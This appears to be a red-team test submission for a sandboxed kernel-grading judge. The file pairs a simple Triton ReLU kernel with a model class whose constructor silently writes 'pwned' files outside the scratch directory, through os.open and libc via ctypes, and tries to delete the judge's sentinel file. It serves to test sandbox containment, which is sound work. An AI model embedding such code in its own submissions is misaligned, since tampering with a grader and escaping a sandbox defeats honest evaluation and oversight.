"""Round 3, OS layer: write files outside the scratch dir: the host's world-writable /tmp,
/var/tmp and /dev/shm (what `nobody` may write without namespaces), the project, the judge's
home and working directory; with os.open directly and with libc's open through ctypes; and
delete the judge's sentinel file."""
import ctypes
import os
import sys

import torch
import torch.nn as nn
import triton
import triton.language as tl


@triton.jit
def relu_kernel(x_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    x = tl.load(x_ptr + offs, mask=mask, other=0.0)
    tl.store(out_ptr + offs, tl.maximum(x, 0.0), mask=mask)


def launch_relu(x, out):
    n = x.numel()
    relu_kernel[(triton.cdiv(n, 1024),)](x, out, n, BLOCK=1024)

DIRS = ("@@HOST_TMP@@", "@@VAR_TMP@@", "@@DEV_SHM@@", "@@PROJECT@@", "@@HOME@@", "@@CWD@@")


def write_everywhere():
    libc = ctypes.CDLL(None, use_errno=True)
    for d in DIRS:
        try:
            fd = os.open(d + "/@@MARKER@@", os.O_WRONLY | os.O_CREAT, 0o644)
            os.write(fd, b"pwned")
            os.close(fd)
        except OSError as exc:
            print("os.open refused:", d, exc, file=sys.stderr)
        fd = libc.open((d + "/@@MARKER@@.raw").encode(), os.O_WRONLY | os.O_CREAT, 0o644)
        if fd >= 0:
            libc.write(fd, b"pwned", 5)
            libc.close(fd)
    for fn in (os.unlink, lambda p: os.rename(p, p + ".moved")):
        try:
            fn("@@SENTINEL_FILE@@")
        except OSError as exc:
            print("sentinel refused:", exc, file=sys.stderr)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        write_everywhere()

    def forward(self, x):
        out = torch.empty_like(x)
        launch_relu(x, out)
        return out
